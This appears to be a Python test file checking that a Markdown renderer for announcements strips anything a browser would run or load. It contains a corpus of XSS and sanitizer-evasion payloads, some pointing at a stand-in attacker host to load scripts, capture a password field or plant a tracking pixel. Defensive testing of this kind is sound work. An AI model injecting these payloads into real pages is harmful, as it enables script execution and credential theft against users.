"""Nothing that a browser would run, load or follow unasked comes out of an announcement's text."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kirotrio.access.markdown import rendered

PLAIN = frozenset(
    {"p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "table", "thead"}
    | {"tbody", "tr", "th", "td", "h3", "h4", "h5", "h6"}
)
CORPUS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=https://evil.example><input name=password autofocus onfocus=alert(1)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/)",
    "[x](/console/users/1/remove)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](https://a.example 'onmouseover=alert(1)')",
    "[x](https://a.example\" onmouseover=alert(1) x=\")",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![<img src=x onerror=alert(1)>](https://a.example)",
    "```html\"><script>alert(1)</script>\nx\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> | b |\n|:--:|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "> <details open ontoggle=alert(1)>",
    "- <video><source onerror=alert(1)>",
    "# <body onload=alert(1)>",
    "<x style=\"background:url(javascript:alert(1))\">",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<button formaction=javascript:alert(1)>",
    "\ufeff<script>alert(1)</script>",
]  # fmt: skip


class Elements(HTMLParser):
    """What a browser would make elements of."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def check_harmless(html: str) -> None:
    elements = Elements(html)
    assert not elements.others
    for tag, attributes in elements.found:
        assert tag in PLAIN, html
        if tag == "a":
            assert set(attributes) <= {"href", "rel"}, html
            assert attributes["rel"] == "noopener nofollow"
            address = attributes.get("href")
            assert address is None or address.lower().startswith(("http://", "https://", "mailto:")), html
        else:
            assert not attributes, html


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_executable_survives(text: str) -> None:
    check_harmless(rendered(text))
    check_harmless(rendered(f"# {text}\n\n- {text}\n\n> **{text}**"))


@given(st.lists(st.sampled_from([*CORPUS, "\n", "\n\n", "    ", "`", "*", "[", "](", ")", "<", ">", '"', "&", "|"])))
def test_nothing_executable_comes_of_what_is_put_together(pieces: list[str]) -> None:
    check_harmless(rendered("".join(pieces)))


@given(st.text(max_size=300))
def test_any_text_is_rendered_harmlessly(text: str) -> None:
    check_harmless(rendered(text))


def test_what_people_write_looks_as_they_mean_it() -> None:
    text = (
        "# Tonight\n\nWe **move**, see [the plan](https://a.example/plan) or <mailto:me@a.example>.\n\n- ~~one~~\n- two"
    )
    assert rendered(text) == (
        "<h3>Tonight</h3>\n"
        '<p>We <strong>move</strong>, see <a href="https://a.example/plan" rel="noopener nofollow">the plan</a> or '
        '<a href="mailto:me@a.example" rel="noopener nofollow">mailto:me@a.example</a>.</p>\n'
        "<ul>\n<li><s>one</s></li>\n<li>two</li>\n</ul>\n"
    )
